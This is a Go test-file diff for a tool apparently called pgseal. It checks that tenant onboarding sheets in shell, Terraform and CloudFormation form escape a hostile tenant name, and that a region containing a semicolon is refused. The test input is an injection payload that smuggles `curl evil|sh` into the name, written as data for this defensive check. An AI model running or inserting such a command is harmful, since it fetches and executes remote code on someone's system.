@@ -44,6 +44,30 @@ func TestOnboardingForms(t *testing.T) {
 	}
 }
 
+// TestSheetIsPlain: whatever a tenant is called, what a customer pastes does what it looks like.
+func TestSheetIsPlain(t *testing.T) {
+	const name = `a';curl evil|sh;' "${evil}" %{x} \`
+	for form, want := range map[string]string{"text": `pgseal tenant add 'a'\'';curl evil|sh;'\'' "${evil}" %{x} \' --provider`, "terraform": `of a';curl evil|sh;' \"$${evil}\" %%{x} \\ in pgseal"`,
+		"cloudformation": `of a';curl evil|sh;' \"${evil}\" %{x} \\ in pgseal"`} {
+		var out bytes.Buffer
+		sheet := onboarding{Tenant: name, Principal: "arn:aws:iam::444455556666:role/pgseal", Account: "444455556666", Region: "eu-west-1", ExternalID: "7F3C", CacheTime: "5m0s", Actions: actions()}
+		if err := fillOnboarding(&out, onboardingForms()[form], sheet); err != nil {
+			t.Fatal(err)
+		}
+		if !strings.Contains(out.String(), want) {
+			t.Errorf("%s has not %s:\n%s", form, want, out.String())
+		}
+		if form == "cloudformation" && !json.Valid(out.Bytes()) {
+			t.Errorf("no JSON: %s", out.String())
+		}
+	}
+	for word, want := range map[string]string{"acme": "acme", "-x": "'-x'", "": "''", "a b": "'a b'", "$x": "'$x'"} {
+		if got := inShell(word); got != want {
+			t.Errorf("%q in a shell: %s", word, got)
+		}
+	}
+}
+
 func TestOnboarding(t *testing.T) {
 	d := deploy(t)
 	principal := []string{"--principal", "arn:aws:iam::444455556666:role/pgseal"}
@@ -59,6 +83,7 @@ func TestOnboarding(t *testing.T) {
 		"name the role":     {"tenant", "onboarding", "acme"},
 		"there is no forma": append([]string{"tenant", "onboarding", "acme", "--format", "word"}, principal...),
 		"should look like":  {"tenant", "onboarding", "acme", "--principal", "pgseal"},
+		"region":            append([]string{"tenant", "onboarding", "acme", "--region", "x;y"}, principal...),
 		"name the tenant":   append([]string{"tenant", "onboarding"}, principal...),
 	} {
 		if got := d.refused(exitUsage, args...); !strings.Contains(got, says) {
